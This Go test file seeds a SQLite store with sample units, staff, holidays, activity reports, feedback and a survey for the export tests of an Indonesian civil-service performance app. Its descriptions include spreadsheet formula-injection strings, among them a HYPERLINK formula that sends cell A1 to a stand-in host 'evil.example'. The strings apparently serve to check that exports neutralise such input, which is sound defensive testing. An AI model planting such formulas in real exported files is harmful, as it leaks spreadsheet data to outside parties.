package export_test

import (
	"context"
	"path/filepath"
	"testing"
	"time"

	"github.com/kinerjabot/kinerjabot/storage"
	"github.com/kinerjabot/kinerjabot/storage/sqlite"
)

const (
	nipRina  = "197805122005012003" // supervisor, PKM
	nipBudi  = "199001152019031004" // staff, PKM
	nipSari  = "198703102012012005" // staff, PKM
	nipAdmin = "198001012006041001" // admin, DINKES
	nipPKMA  = "198202022008012002" // admin, PKM
	nipLeft  = "199505052020121003" // left PKM, no reports
	nipOut   = "198806062011011001" // another unit
)

// Texts a spreadsheet would run, were they written as formulas.
const (
	descFormula = `=HYPERLINK("http://evil.example/?x="&A1,"klik")`
	descPlus    = "+1 lembar"
	descMinus   = "-2 kegiatan"
	descAt      = "@x rapat"
	reasonTab   = "\tfoto buram"
)

func ptr[T any](v T) *T { return &v }

// openStore opens an empty embedded store, closed when the test ends.
func openStore(tb testing.TB) storage.Store {
	tb.Helper()
	st, err := sqlite.Open(context.Background(), filepath.Join(tb.TempDir(), "kb.db"))
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { st.Close(context.Background()) })
	return st
}

// seed stores November 2026 of a Puskesmas under a Dinas: 21 weekdays,
// one of them (the 10th) a holiday on file, and for the Puskesmas only
// another (the 3rd, a regional holiday).
func seed(t *testing.T) storage.Store {
	t.Helper()
	ctx := context.Background()
	st := openStore(t)
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	for _, u := range []storage.Unit{
		{Code: "DINKES", Name: "Dinas Kesehatan", Timezone: "Asia/Makassar", MonthlyTargetMinutes: 6000},
		{Code: "PKM", Name: "Puskesmas Sempaja", ParentCode: "DINKES", Timezone: "Asia/Makassar",
			Latitude: ptr(-0.4500), Longitude: ptr(117.1500), ServiceUsers: 1000},
		{Code: "DISDIK", Name: "Dinas Pendidikan", Timezone: "Asia/Makassar"},
	} {
		must(st.UpsertUnit(ctx, u))
	}
	for _, e := range []storage.Employee{
		{NIP: nipAdmin, Name: "Admin Dinkes", UnitCode: "DINKES", Role: storage.RoleAdmin, Active: true},
		{NIP: nipPKMA, Name: "Admin Puskesmas", UnitCode: "PKM", Role: storage.RoleAdmin, Active: true},
		{NIP: nipRina, Name: "dr. Rina", UnitCode: "PKM", Position: "Kepala Puskesmas", Active: true},
		{NIP: nipBudi, Name: "Budi Santoso", UnitCode: "PKM", Position: "Perawat", SupervisorNIP: nipRina, Active: true},
		{NIP: nipSari, Name: "Sari Dewi", UnitCode: "PKM", Position: "Bidan", SupervisorNIP: nipRina, Active: true},
		{NIP: nipLeft, Name: "Pegawai Pindah", UnitCode: "PKM", SupervisorNIP: nipRina},
		{NIP: nipOut, Name: "Orang Luar", UnitCode: "DISDIK", Active: true},
	} {
		must(st.UpsertEmployee(ctx, e))
	}
	must(st.UpsertHoliday(ctx, storage.Holiday{Date: "2026-11-10", Name: "Hari Pahlawan (contoh)"}))
	must(st.UpsertHoliday(ctx, storage.Holiday{Date: "2026-11-03", Name: "Hari jadi Puskesmas (contoh)", Units: []string{"PKM"}}))
	must(st.UpsertSKPTarget(ctx, storage.SKPTarget{ID: "skp1", NIP: nipSari, Period: "2026", Kind: "utama",
		RHK: "Pelayanan KIA", Indikator: "Ibu hamil mendapat layanan ANC", Target: "100", Satuan: "orang"}))
	taken := time.Date(2026, 10, 1, 9, 0, 0, 0, time.UTC)
	must(st.PutEvidence(ctx, storage.Evidence{ID: "ev1", ActivityID: "a1", NIP: nipBudi, MIME: "image/jpeg",
		Bands: []int{1}, TakenAt: &taken, ReuseOf: "ev0"}, []byte("jpeg")))
	report := func(id, nip, date string, minutes int, desc string, c storage.Content) {
		c.Minutes, c.Description = minutes, desc
		must(st.CreateActivity(ctx, storage.Activity{ID: id, NIP: nip, UnitCode: "PKM", SupervisorNIP: nipRina, Date: date,
			Content: c, SubmittedAt: time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)}))
	}
	decide := func(id string, to storage.Status, reason string) {
		_, err := st.DecideActivity(ctx, id, 1, storage.Decide{To: to, ByNIP: nipRina, Reason: reason,
			At: time.Date(2026, 11, 5, 1, 30, 0, 0, time.UTC)}) // 09.30 WITA
		must(err)
	}
	// About 1.1 km north of the Puskesmas.
	report("a1", nipBudi, "2026-11-02", 300, descFormula, storage.Content{EvidenceIDs: []string{"ev1"},
		Location: &storage.Point{Lat: -0.4400, Lon: 117.1500}, OutputVolume: 2.5, OutputUnit: "laporan"})
	decide("a1", storage.StatusApproved, "")
	report("a2", nipBudi, "2026-11-03", 120, descPlus, storage.Content{})
	report("a3", nipBudi, "2026-11-10", 60, descMinus, storage.Content{}) // the holiday
	decide("a3", storage.StatusApproved, "")
	report("a4", nipBudi, "2026-11-04", 90, descAt, storage.Content{})
	decide("a4", storage.StatusRejected, reasonTab)
	report("a5", nipBudi, "2026-12-01", 45, "bulan berikutnya", storage.Content{})
	report("s1", nipSari, "2026-11-05", 240, "Kelas ibu hamil", storage.Content{SKPTargetID: "skp1"})
	decide("s1", storage.StatusApproved, "")
	report("o1", nipOut, "2026-11-05", 480, "Di unit lain", storage.Content{})
	fb := func(id, from, to string, value int, anon bool, date string) {
		must(st.AddFeedback(ctx, storage.Feedback{ID: id, FromNIP: from, ToNIP: to, Value: value, Note: "catatan rahasia " + id,
			Anonymous: anon, Date: date, At: time.Date(2026, 11, 6, 0, 0, 0, 0, time.UTC)}))
	}
	fb("f1", nipOut, nipBudi, 7, true, "2026-11-06")
	fb("f2", nipRina, nipBudi, 2, false, "2026-11-06")
	fb("f3", nipRina, nipBudi, 2, false, "2026-10-30") // another month
	must(st.AddSurvey(ctx, storage.Survey{ID: "sv1", UnitCode: "PKM", Date: "2026-11-09", Mode: storage.SurveySKM,
		Answers: []int{4, 4, 4, 4, 4, 4, 4, 4, 3}, ChatHash: "h1", At: time.Date(2026, 11, 9, 2, 0, 0, 0, time.UTC)}))
	return st
}
